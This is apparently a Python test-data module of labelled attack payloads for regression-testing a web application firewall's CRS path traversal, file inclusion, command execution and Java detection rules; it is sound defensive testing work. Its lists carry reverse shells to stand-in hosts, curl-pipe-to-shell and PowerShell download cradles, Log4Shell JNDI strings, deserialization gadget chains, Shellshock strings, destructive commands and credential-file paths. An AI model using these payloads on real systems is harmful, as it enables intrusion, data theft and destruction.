"""Blind examples, the forty-fifth set: the positive regression tests a fourth rule author writes for the CRS
3.3.4 path traversal, file access, remote file inclusion, remote command execution and Java titles (930xxx,
931xxx, 932xxx, 944xxx at paranoia levels 1-2) and for the request-rule titles CRS 4.x added beside them, from
the titles alone; with benign requests that carry the same words innocently.

Angle: for every detection title, the canonical attack it names, then one test per alternative its family
covers (each command, cmdlet, file, parameter name, class or gadget the author knows, not just the famous one),
then the variants a good rule must still catch: other quoting and casing, whitespace and comment substitutes,
concatenation, and the encodings a server decodes (URL, double URL, overlong UTF-8, %u, HTML/XML entities,
unicode escapes in JSON).

Families and sub-families (one sub-family per title, kebab-case from the title):
  lfi  path-traversal-encoded (930100), path-traversal-decoded (930110), os-file-access (930120),
       restricted-file-access (930130), os-file-access-headers, path-traversal-triple-dot (4.x);
  rfi  rfi-ip-address (931100), rfi-vulnerable-param (931110), rfi-trailing-question-mark (931120),
       rfi-off-domain (931130);
  rce  unix-command-injection (932100), unix-command-injection-more (932105), windows-command-injection
       (932110), windows-command-injection-more (932115), powershell-command (932120), unix-shell-expression
       (932130), windows-for-if (932140), direct-unix-command (932150), unix-shell-code (932160),
       shellshock-headers (932170), shellshock-args (932171), restricted-file-upload (932180),
       rce-bypass-technique (932200), unix-shell-alias, unix-shell-history, unix-short-commands,
       sqlite-system-command, mail-protocol-command, unix-shell-code-headers (4.x);
  java java-class-rce (944100), java-process-spawn (944110), java-serialization-rce (944120),
       java-suspicious-class (944130), java-magic-bytes (944200), java-magic-bytes-base64 (944210),
       java-serialization-gadget (944240), java-suspicious-method (944250), log4shell, java-class-loading,
       java-script-upload (4.x).

Placements: each payload goes to two or three places, rotating through a cycle that alternates our real routes
(query of /api/users, form of /admin/users/search with csrf_token, JSON of /api/users, JSON with every
punctuation mark as a unicode escape, cookie, User-Agent, Referer, X-Api-Version, a parameter name, XML body,
XML with character references, multipart field or filename, URL path) with the way a WAF regression suite
sends them ("rs-" placements: paths that are not our routes such as /, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi, with parameter names foo, var, x, test, id, arg1, as a query string, form
body, JSON, XML, a raw form-typed body that is not key=value, a header or a cookie). Payloads marked as wire
forms (class W) already carry the URL encoding the attacker sends and are inserted as they are.

Authorship and independence: written for this repository from general knowledge of each family and the rule
titles alone; no rule, engine file, ruleset regression test, other blind set or public payload list was read.
Measured once through the real stack on unchanged code; payloads were not changed after seeing the results.
Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, link_requests, prose_request

NAME = "fortyfifth"


class W(str):
    """A wire form: the payload as it appears on the wire, URL encoding included; inserted as it is."""

    __slots__ = ()


# ---------------------------------------------------------------------------------------------------- LFI
PATH_TRAVERSAL_ENCODED: list[str] = [
    W("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    W("%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    W("..%2f..%2f..%2f..%2fetc%2fshadow"),
    W("..%5c..%5c..%5cwindows%5cwin.ini"),
    W("%2E%2E%5C%2E%2E%5Cboot.ini"),
    W("%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    W("..%252f..%252f..%252fetc%252fpasswd"),
    W("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    W("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    W("..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    W("%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd"),
    W("%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd"),
    W("%u002e%u002e%u2216%u002e%u002e%u2216boot.ini"),
    W(".%2e/.%2e/.%2e/etc/passwd"),
]

PATH_TRAVERSAL_DECODED: list[str] = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "/var/www/html/../../../etc/shadow",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "..;/..;/..;/WEB-INF/web.xml",
    "../../../../../../proc/self/environ",
    "..//..//..//etc//passwd",
    "\\..\\..\\..\\boot.ini",
    W("../../../../../../../../etc/hosts%00.png"),
    "images/../../../../config/database.yml",
    "..\\/..\\/..\\/etc/passwd",
    "/static/..%2f../app/settings.py",
    "templates/../../../../../root/.bashrc",
]

OS_FILE_ACCESS: list[str] = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/hosts",
    "/etc/issue",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/root/.ssh/id_rsa",
    "/home/ubuntu/.bash_history",
    "C:\\Windows\\win.ini",
    "c:/boot.ini",
    "C:\\Windows\\System32\\config\\SAM",
    "/var/log/apache2/access.log",
    "/etc/mysql/my.cnf",
    "/EtC/PaSsWd",
    "/etc/./././passwd",
    W("%2fetc%2fpasswd"),
    "file:///etc/shadow",
]

RESTRICTED_FILE_ACCESS: list[str] = [
    "/.git/config",
    "/.git/HEAD",
    "/.env",
    "/.htaccess",
    "/.htpasswd",
    "/web.config",
    "/wp-config.php",
    "/.svn/entries",
    "/WEB-INF/web.xml",
    "/.aws/credentials",
    "/.DS_Store",
    "/.hg/hgrc",
    "/.npmrc",
    "/.GIT/CONFIG",
    W("/%2egit/config"),
    W("/.env%00"),
]

OS_FILE_ACCESS_HEADERS: list[str] = [
    "/etc/passwd",
    "../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "/proc/self/environ",
    "file:///etc/shadow",
    "/root/.ssh/id_rsa",
    "/etc/hosts",
    W("..%2f..%2fetc%2fpasswd"),
    "c:\\boot.ini",
]

PATH_TRAVERSAL_TRIPLE_DOT: list[str] = [
    ".../.../.../etc/passwd",
    "/.../.../.../etc/hosts",
    "...\\...\\...\\windows\\win.ini",
    ".../...//.../etc/shadow",
    W("%2e%2e%2e/%2e%2e%2e/etc/passwd"),
    "..../..../..../etc/passwd",
    "..../\\..../\\boot.ini",
    W(".../...%2f...%2fetc%2fgroup"),
]

# ---------------------------------------------------------------------------------------------------- RFI
RFI_IP_ADDRESS: list[str] = [
    "http://192.0.2.10/shell.txt",
    "https://203.0.113.5/evil.php",
    "ftp://198.51.100.7/x.txt",
    "ftps://198.51.100.7/r57.txt",
    "file://10.0.0.1/share/x.php",
    "HTTP://203.0.113.5/c99.txt",
    "http://203.0.113.5:8080/s.txt",
    "hTtPs://198.51.100.23/inc.txt",
    W("http:%2f%2f203.0.113.5%2fshell.txt"),
    W("http%3A%2F%2F192.0.2.44%2Fcmd.txt"),
    "http://3405803781/x.txt",
    "http://0xcb.0x00.0x71.0x05/x.txt",
    "http://[2001:db8::1]/x.txt",
    "\\\\203.0.113.5\\share\\x.php",
]

# parameter names a PHP application historically included from, each with a URL
RFI_VULNERABLE_PARAM: list[str] = [
    "_PHPLIB[libdir]=http://attacker.example/",
    "mosConfig_absolute_path=http://attacker.example/shell.txt",
    "GALLERY_BASEDIR=http://attacker.example/x.txt",
    "path[docroot]=http://attacker.example/",
    "includedir=http://attacker.example/inc",
    "phpbb_root_path=https://attacker.example/",
    "config[root_dir]=http://attacker.example/",
    "include=https://attacker.example/c99.txt",
    "page=http://attacker.example/shell.txt",
    "file=ftp://attacker.example/r57.txt",
    "template=http://attacker.example/t.txt",
    "appserv_root=http://attacker.example/",
    "basepath=HTTP://ATTACKER.EXAMPLE/x",
    W("include=http%3A%2F%2Fattacker.example%2Fx.txt"),
]

RFI_TRAILING_QUESTION: list[str] = [
    "http://attacker.example/shell.txt?",
    "https://evil.example.net/c99.txt?",
    "ftp://evil.example.net/r57.txt?",
    "http://attacker.example/x.php??",
    "http://attacker.example/inc.txt?&",
    W("http://attacker.example/shell.txt%3F"),
    "HTTPS://ATTACKER.EXAMPLE/SHELL.TXT?",
    "http://attacker.example:8080/a.txt?",
    "http://attacker.example/?",
    "file://attacker.example/x.txt?",
    "http://203.0.113.5/s.txt?",
    W("http%3A%2F%2Fattacker.example%2Fx.txt%3F"),
]

RFI_OFF_DOMAIN: list[str] = [
    "http://evil.example.net/shell.txt",
    "https://pastebin.example.com/raw/abc123",
    "ftp://files.evil.example.org/x.php",
    "http://localhost@evil.example.net/x.txt",
    "https://evil.example.net/#.localhost",
    "HTTPS://Evil.Example.Net/backdoor.txt",
    "http://evil.example.net:8443/inc.php",
    W("http%3A%2F%2Fevil.example.net%2Fx.txt"),
    "//evil.example.net/x.txt",
    "https://raw.githubusercontent.example/attacker/x/main/s.php",
]

# ---------------------------------------------------------------------------------------------------- RCE
UNIX_COMMAND_INJECTION: list[str] = [
    ";cat /etc/passwd",
    "| id",
    "&& whoami",
    "|| uname -a",
    "; ls -la /",
    "| nc -e /bin/sh 203.0.113.5 4444",
    ";wget http://attacker.example/x -O /tmp/x",
    "& curl http://attacker.example/s|sh",
    "\nid",
    "; ping -c 3 203.0.113.5",
    "|chmod 777 /tmp/x",
    ";python -c 'import os;os.system(\"id\")'",
    ";sleep 10",
    "127.0.0.1; ifconfig",
    W("x%3Bcat%20/etc/passwd"),
    W("x%0Awhoami"),
]

UNIX_COMMAND_INJECTION_MORE: list[str] = [
    ";bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "|perl -e 'exec \"/bin/sh\"'",
    "&&ruby -rsocket -e 'exit'",
    ";php -r 'system(\"id\");'",
    "||rm -rf /tmp/x",
    ";mkfifo /tmp/p; nc 203.0.113.5 4444 0</tmp/p | /bin/sh >/tmp/p",
    "|awk 'BEGIN{system(\"id\")}'",
    ";echo aWQ= | base64 -d | sh",
    ";socat tcp:203.0.113.5:4444 exec:sh",
    ";find / -perm -4000 -exec id \\;",
    "|tail -n 5 /var/log/auth.log",
    ";sed -n 1p /etc/passwd",
    ";useradd -m evil",
    ";kill -9 1",
    ";crontab -r",
    W("x%26%26telnet%20203.0.113.5%2023"),
]

WINDOWS_COMMAND_INJECTION: list[str] = [
    "& dir c:\\",
    "| type C:\\Windows\\win.ini",
    "&& net user hacker P4ss /add",
    "; ipconfig /all",
    "| tasklist",
    "& whoami /priv",
    "&& systeminfo",
    "| certutil -urlcache -split -f http://attacker.example/x.exe x.exe",
    "|| cmd /c dir",
    "&net localgroup administrators",
    "| reg query HKLM\\Software",
    "& wmic process list brief",
    "& copy c:\\windows\\win.ini c:\\inetpub\\wwwroot\\x.txt",
    "& ping -n 5 203.0.113.5",
    "| bitsadmin /transfer j http://attacker.example/x.exe c:\\x.exe",
    W("x%26%20dir%20c%3A%5C"),
]

WINDOWS_COMMAND_INJECTION_MORE: list[str] = [
    "& c:\\windows\\system32\\cmd.exe /c whoami",
    "| C:\\WINDOWS\\system32\\net.exe user",
    "& cmd.exe /c \"dir c:\\\"",
    "&& wh^oami",
    "| n^et u^ser",
    "& \"whoami\"",
    "& %COMSPEC% /c dir",
    "| start calc.exe",
    "& rundll32.exe url.dll,FileProtocolHandler calc.exe",
    "& mshta http://attacker.example/x.hta",
    "& regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll",
    "& schtasks /create /tn x /tr calc.exe /sc once /st 00:00",
    "& taskkill /f /im defender.exe",
    "& sc query",
    "& netstat -an",
    "&CMD /C DEL /Q C:\\temp\\*",
]

POWERSHELL: list[str] = [
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "powershell.exe -ExecutionPolicy Bypass -File x.ps1",
    "IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/x.ps1')",
    "Invoke-Expression $x",
    "INVOKE-EXPRESSION (gc x.txt)",
    "Invoke-WebRequest -Uri http://attacker.example/x -OutFile x.exe",
    "Start-Process calc.exe",
    "Get-ChildItem C:\\ -Recurse",
    "Get-Content C:\\Windows\\win.ini",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "pwsh -c \"Get-Process\"",
    "[System.Reflection.Assembly]::Load($b)",
    "Remove-Item -Recurse -Force C:\\inetpub",
    "iwr http://attacker.example/x|iex",
    "& powershell -EncodedCommand dwBoAG8AYQBtAGkA",
    W("powershell%20-c%20Get-Process"),
]

UNIX_SHELL_EXPRESSION: list[str] = [
    "$(id)",
    "`whoami`",
    "${IFS}",
    "$((1+1))",
    "<(cat /etc/passwd)",
    ">(nc 203.0.113.5 4444)",
    "$(cat${IFS}/etc/passwd)",
    "${PATH:0:1}",
    "a=$(curl attacker.example)",
    "$( sleep 5 )",
    "`uname -a`",
    "$'\\x69\\x64'",
    "$(printf '\\151\\144')",
    W("%24%28id%29"),
    W("%60whoami%60"),
]

WINDOWS_FOR_IF: list[str] = [
    "for /f %i in ('whoami') do echo %i",
    "FOR /F \"tokens=*\" %a IN ('dir /b') DO type %a",
    "for /r c:\\ %f in (*.config) do type %f",
    "for /l %i in (1,1,10) do ping 203.0.113.5",
    "for %x in (a b) do @echo %x",
    "if exist c:\\windows\\win.ini type c:\\windows\\win.ini",
    "IF DEFINED USERNAME echo %USERNAME%",
    "if not exist c:\\x mkdir c:\\x",
    "if errorlevel 1 del x",
    "& for /d %d in (c:\\*) do dir %d",
    "IF /I \"%x%\"==\"y\" calc",
    "for /f \"delims=\" %%a in ('net user') do echo %%a",
    "x&FoR /F %i IN ('ipconfig') DO echo %i",
    W("for%20/f%20%25i%20in%20('whoami')%20do%20echo%20%25i"),
]

DIRECT_UNIX_COMMAND: list[str] = [
    "cat /etc/passwd",
    "id",
    "wget http://attacker.example/x.sh",
    "curl -s http://attacker.example/x | sh",
    "nc -lvp 4444 -e /bin/bash",
    "/bin/sh -c id",
    "/usr/bin/id",
    "bash -c 'id'",
    "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "ls -la /",
    "uname -a",
    "/bin/cat /etc/passwd",
    "whoami",
    "perl -e 'print 1'",
    "/???/c?t /etc/passwd",
    "/usr/bin/w*et attacker.example/x",
]

UNIX_SHELL_CODE: list[str] = [
    "/bin/bash -i",
    "/bin/sh",
    "/usr/bin/perl -e",
    "/usr/bin/python",
    "/bin/nc.traditional -e /bin/sh",
    "/bin/busybox telnetd",
    "/usr/bin/wget",
    "/usr/bin/curl",
    "/bin/zsh",
    "/usr/bin/env sh",
    "/usr/local/bin/ruby",
    "/bin/c'a't /etc/passwd",
    "/bin/ca\\t /etc/passwd",
    "/usr/bin/nmap -sV",
    "/bin/dash",
    W("%2fbin%2fbash"),
]

UNIX_SHELL_CODE_HEADERS: list[str] = [
    "/bin/bash -c id",
    "/usr/bin/wget http://attacker.example/x",
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "/bin/sh",
    "nc -e /bin/sh 203.0.113.5 4444",
    "$(curl attacker.example)",
    "`id`",
    "; /bin/cat /etc/passwd",
    "/usr/bin/python3 -c 'import os'",
]

SHELLSHOCK_HEADERS: list[str] = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /bin/cat /etc/passwd",
    "() { _; } >_[$($())] { id; }",
    "() { :; }; ping -c 1 203.0.113.5",
    "(){ :;};/usr/bin/wget http://attacker.example/x",
    "() {:;}; /bin/sleep 5",
    "() { ignored; }; curl http://attacker.example/",
    "() { 0; }; x",
    "()   {   :; } ; echo vulnerable",
    "() { :; }; /bin/nc -e /bin/sh 203.0.113.5 4444",
]

SHELLSHOCK_ARGS: list[str] = [
    "() { :; }; /bin/cat /etc/passwd",
    "() { :;}; /bin/bash -c id",
    "(){ :;};id",
    "() { _; } >_[$($())] { whoami; }",
    "() { ignored; }; /usr/bin/curl attacker.example",
    "() {:;}; sleep 5",
    "()  { :; } ; echo x",
    W("%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fid"),
    "() { x; }; /bin/uname -a",
    "() { :; }; echo; echo; /bin/ls /",
]

RESTRICTED_FILE_UPLOAD: list[str] = [
    ".htaccess",
    ".htpasswd",
    ".htdigest",
    "web.config",
    ".user.ini",
    "php.ini",
    "wp-config.php",
    "config.yml",
    "parameters.yml",
    "security.yml",
    "services.yml",
    ".HTACCESS",
    "Web.Config",
    "uploads/.htaccess",
]

RCE_BYPASS: list[str] = [
    "c''at /etc/passwd",
    "c\"\"at /e\"\"tc/pa\"\"sswd",
    "c\\at /et\\c/pas\\swd",
    "/???/??t /???/p??s??",
    "cat$IFS/etc/passwd",
    "cat${IFS}/etc/passwd",
    "w$@hoami",
    "wh$()oami",
    ";i''d",
    "/b[i]n/c[a]t /e[t]c/passwd",
    "ca${u}t /etc/passwd",
    "{cat,/etc/passwd}",
    "X=$'cat\\x20/etc/passwd'&&$X",
    "`echo Y2F0IC9ldGMvcGFzc3dk|base64 -d`",
    "who$(echo am)i",
    ";/bi'n'/s'h' -c id",
]

UNIX_SHELL_ALIAS: list[str] = [
    "alias ls='rm -rf /'",
    ";alias x=id;x",
    "; alias sudo='sudo /tmp/x'",
    "\nalias cat=nc",
    "| unalias -a",
    "&& alias",
    "; alias -p",
    "$(alias ll='curl attacker.example|sh')",
]

UNIX_SHELL_HISTORY: list[str] = [
    ";!!",
    "; !-1",
    "|| !$",
    "; history",
    "; history -c",
    "&& !ca",
    "; fc -s",
    "$(history | tail -1)",
    "`!!`",
]

UNIX_SHORT_COMMANDS: list[str] = [
    ";ls",
    "|id",
    "&&ps",
    ";w",
    ";df -h",
    "|nc 203.0.113.5 80",
    "`ls`",
    ";ip a",
    ";su",
    ";vi /etc/hosts",
    "||dd if=/dev/zero of=/dev/sda",
    W("%0als"),
    "| ps aux",
]

SQLITE_SYSTEM: list[str] = [
    ".system id",
    ".shell cat /etc/passwd",
    "'; .system whoami --",
    "\n.shell uname -a",
    ".system curl http://attacker.example/x|sh",
    ".load /tmp/evil.so",
    "SELECT load_extension('/tmp/evil.so')",
    "ATTACH DATABASE '/var/www/html/x.php' AS x",
    ".output /tmp/x.php",
    ".sh ls",
]

MAIL_PROTOCOL: list[str] = [
    "x@example.org\r\nRCPT TO:<victim@example.org>",
    W("a%0d%0aMAIL%20FROM:<attacker@attacker.example>%0d%0aRCPT%20TO:<victim@example.org>%0d%0aDATA"),
    "hi\r\nDATA\r\nSubject: x\r\n\r\nbody\r\n.\r\nQUIT",
    "\nHELO attacker.example\nMAIL FROM:<a@attacker.example>",
    "x\r\nVRFY root",
    "x\r\nEXPN staff",
    "INBOX\r\na2 FETCH 1:* (BODY[])",
    W("INBOX%0d%0aa3%20UID%20FETCH%201%20BODY[]"),
    "INBOX\r\na4 DELETE INBOX",
    "x\r\nUSER admin\r\nLIST",
    W("x%0d%0aRETR%201"),
    "x\r\nDELE 1\r\nQUIT",
]

# --------------------------------------------------------------------------------------------------- Java
JAVA_CLASS_RCE: list[str] = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "java.lang.ProcessBuilder",
    "new java.lang.ProcessBuilder(\"bash\",\"-c\",\"id\").start()",
    "JAVA.LANG.RUNTIME",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{@java.lang.Runtime@getRuntime().exec('whoami')}",
    W("java%2elang%2eRuntime"),
    "Class.forName(\"java.lang.Runtime\")",
    "java . lang . Runtime",
    "java.lang.ProcessImpl.start",
    "#{''.getClass().forName('java.lang.ProcessBuilder')}",
    W("java.lang.%52untime"),
]

_XSTREAM_FULL = (
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags>"
    "<value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler>"
    "<dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\">"
    "<is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\">"
    "<serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\">"
    "<iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\"><command>"
    "<string>touch</string><string>/tmp/x</string></command><redirectErrorStream>false</redirectErrorStream>"
    "</next></iter></serviceIterator></cipher></is></dataSource></dataHandler></value>"
    "</jdk.nashorn.internal.objects.NativeString></entry></map>"
)

JAVA_PROCESS_SPAWN: list[str] = [
    _XSTREAM_FULL,
    "<java.lang.ProcessBuilder><command><string>calc</string></command></java.lang.ProcessBuilder>",
    "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans."
    "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target>"
    "<action>start</action></handler></dynamic-proxy></sorted-set>",
    "<next class=\"java.lang.ProcessBuilder\"><command><string>nc</string><string>203.0.113.5</string>"
    "</command></next>",
    "<value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><java.lang.Runtime/></value>",
    "<object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string>"
    "</void></object>",
    "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
    "<array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array>"
    "<void method=\"start\"/></object></java>",
    "<JAVA.LANG.PROCESSBUILDER><command><string>id</string></command></JAVA.LANG.PROCESSBUILDER>",
    "unmarshaller java.lang.ProcessBuilder start",
    "base64data runtime exec",
]

JAVA_SERIALIZATION_RCE: list[str] = [
    "org.apache.commons.collections.functors.InvokerTransformer java.lang.Runtime exec",
    "ChainedTransformer InstantiateTransformer java.lang.ProcessBuilder",
    "org.apache.commons.collections.functors.CloneTransformer java.lang.Runtime",
    "org.apache.commons.collections.functors.ForClosure java.lang.ProcessBuilder",
    "org.apache.commons.collections.functors.WhileClosure java.lang.Runtime",
    "org.apache.commons.collections.functors.InstantiateFactory java.lang.ProcessBuilder",
    "PrototypeCloneFactory java.lang.Runtime getRuntime",
    "PrototypeSerializationFactory java.lang.Runtime",
    "<java class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\"/></java>",
    "java.io.FileWriter java.lang.Runtime",
    "System.getProperty(\"user.dir\") java.lang.Runtime",
    "INVOKERTRANSFORMER RUNTIME",
    W("InvokerTransformer%20java.lang.Runtime"),
]

JAVA_SUSPICIOUS_CLASS: list[str] = [
    "com.opensymphony.xwork2.dispatcher.HttpServletResponse",
    "java.io.FileOutputStream",
    "java.io.BufferedReader",
    "java.lang.reflect.Method",
    "javax.script.ScriptEngineManager",
    "org.apache.commons.collections.Transformer",
    "org.apache.struts2.ServletActionContext",
    "java.lang.System.getenv()",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "java.io.ObjectInputStream",
    "java.beans.XMLDecoder",
    "org.omg.CORBA.ORB",
    "java.net.URLClassLoader",
    "javax.naming.InitialContext",
    "JAVA.IO.FILE",
    W("java%2eio%2eFileInputStream"),
]

JAVA_MAGIC_BYTES: list[str] = [
    W("%ac%ed%00%05sr%00%11java.util.HashMap"),
    W("%AC%ED%00%05t%00%04test"),
    W("%ac%ed%00%05ur%00%13[Ljava.lang.Object;"),
    W("%ac%ed%00%05sr%002org.apache.commons.collections.functors.InvokerTransformer"),
    W("%ac%ed%00%05w%04%00%00%00%01"),
    W("%ac%ed%00%05"),
    W("x%ac%ed%00%05sr%00%0ejava.lang.Long"),
    W("%25ac%25ed%2500%2505sr"),
    "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashSet",
    "aced0005737200116a6176612e7574696c2e486173684d6170",
]

JAVA_MAGIC_BASE64: list[str] = [
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA==",
    "rO0ABXQABHRlc3Q=",
    "rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7",
    "rO0ABXNyADJvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVy",
    "AKztAAVzcgAOamF2YS5sYW5nLkxvbmc=",
    "AACs7QAFc3IAEWphdmEubGFuZy5JbnRlZ2Vy",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4Kx",
    W("rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA%3D%3D"),
    "rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA==",
    W("rO0ABXQABHRlc3Q%253D"),
    "Bearer rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA==",
]

JAVA_SERIALIZATION_GADGET: list[str] = [
    "InvokerTransformer",
    "org.apache.commons.collections4.functors.InstantiateTransformer",
    "CloneTransformer",
    "org.apache.commons.collections.functors.ForClosure",
    "WhileClosure",
    "PrototypeSerializationFactory",
    "PrototypeCloneFactory",
    "InstantiateFactory",
    "System.getProperty(\"user.home\")",
    "java.beans.XMLDecoder",
    "new FileWriter(\"/tmp/x.jsp\")",
    "invokertransformer",
    W("Invoker%54ransformer"),
]

JAVA_SUSPICIOUS_METHOD: list[str] = [
    "java/lang/Runtime getRuntime exec",
    "Runtime.getRuntime().exec(\"id\")",
    "new ProcessBuilder(\"id\").start()",
    "java .lang. Runtime",
    "getMethod(\"getRuntime\").invoke(null).exec(\"id\")",
    "java.lang.ClassLoader.defineClass",
    "Thread.currentThread().getContextClassLoader().loadClass(\"x\").newInstance()",
    "javax.script.ScriptEngine.eval(\"1\")",
    "java.lang.Runtime.getRuntime",
    "java.lang.ProcessBuilder.start",
    "getDeclaredMethod(\"exec\", String.class).invoke(r, \"id\")",
    "java.lang.System.exit(0)",
]

LOG4SHELL: list[str] = [
    "${jndi:ldap://attacker.example/a}",
    "${jndi:rmi://attacker.example:1099/a}",
    "${jndi:dns://attacker.example/a}",
    "${jndi:ldaps://attacker.example/a}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://attacker.example/a}",
    "${j${k8s:k5:-ND}i:ldap://attacker.example/a}",
    "${JNDI:LDAP://attacker.example/a}",
    W("%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    "${jndi:ldap://${env:HOSTNAME}.attacker.example/a}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:http://attacker.example/a}",
]

JAVA_CLASS_LOADING: list[str] = [
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
    "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
    "class.module.classLoader.resources.context.parent.pipeline.first.prefix=shell",
    "class.classLoader.URLs[0]=jar:http://attacker.example/x.jar!/",
    "class[module][classLoader][resources][context][parent][pipeline][first][suffix]=.jsp",
    "Class.Module.ClassLoader.DefaultAssertionStatus=true",
    "class.protectionDomain.codeSource.location=http://attacker.example/",
    "user.class.module.classLoader.resources.dirContext.docBase=/",
    W("class%2emodule%2eclassLoader%2eresources%2econtext%2eparent=x"),
    "class.classLoader.resources.dirContext.docBase=/etc",
]

_JSP = "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"
JAVA_SCRIPT_UPLOAD: list[str] = [
    "shell.jsp",
    "cmd.jspx",
    "x.JSP",
    "a.jsp.",
    "x.jsp;.jpg",
    "x.jspf",
    "index.jsp ",
    "avatar.png.jsp",
    "x.jsw",
    "x.jsv",
]

# (family, sub-family, placement cycle, parameter names for our routes, payloads)
SETS: list[tuple[str, str, str, list[str], list[str]]] = [
    ("lfi", "path-traversal-encoded", "lfi", ["file", "page", "path"], PATH_TRAVERSAL_ENCODED),
    ("lfi", "path-traversal-decoded", "lfi", ["file", "template", "doc"], PATH_TRAVERSAL_DECODED),
    ("lfi", "os-file-access", "lfi", ["file", "path", "log"], OS_FILE_ACCESS),
    ("lfi", "restricted-file-access", "restricted", ["file", "path"], RESTRICTED_FILE_ACCESS),
    ("lfi", "os-file-access-headers", "headers", ["file"], OS_FILE_ACCESS_HEADERS),
    ("lfi", "path-traversal-triple-dot", "lfi", ["file", "page"], PATH_TRAVERSAL_TRIPLE_DOT),
    ("rfi", "rfi-ip-address", "general", ["page", "url", "include"], RFI_IP_ADDRESS),
    ("rfi", "rfi-vulnerable-param", "pair", [], RFI_VULNERABLE_PARAM),
    ("rfi", "rfi-trailing-question-mark", "general", ["page", "file", "template"], RFI_TRAILING_QUESTION),
    ("rfi", "rfi-off-domain", "general", ["url", "page", "src"], RFI_OFF_DOMAIN),
    ("rce", "unix-command-injection", "general", ["host", "ip", "cmd"], UNIX_COMMAND_INJECTION),
    ("rce", "unix-command-injection-more", "general", ["host", "name", "cmd"], UNIX_COMMAND_INJECTION_MORE),
    ("rce", "windows-command-injection", "general", ["host", "dir", "cmd"], WINDOWS_COMMAND_INJECTION),
    ("rce", "windows-command-injection-more", "general", ["host", "q", "cmd"], WINDOWS_COMMAND_INJECTION_MORE),
    ("rce", "powershell-command", "general", ["script", "q", "cmd"], POWERSHELL),
    ("rce", "unix-shell-expression", "general", ["name", "q", "cmd"], UNIX_SHELL_EXPRESSION),
    ("rce", "windows-for-if", "general", ["cmd", "q", "name"], WINDOWS_FOR_IF),
    ("rce", "direct-unix-command", "general", ["cmd", "exec", "q"], DIRECT_UNIX_COMMAND),
    ("rce", "unix-shell-code", "general", ["cmd", "shell", "q"], UNIX_SHELL_CODE),
    ("rce", "unix-shell-code-headers", "headers", ["cmd"], UNIX_SHELL_CODE_HEADERS),
    ("rce", "shellshock-headers", "shellshock", ["x"], SHELLSHOCK_HEADERS),
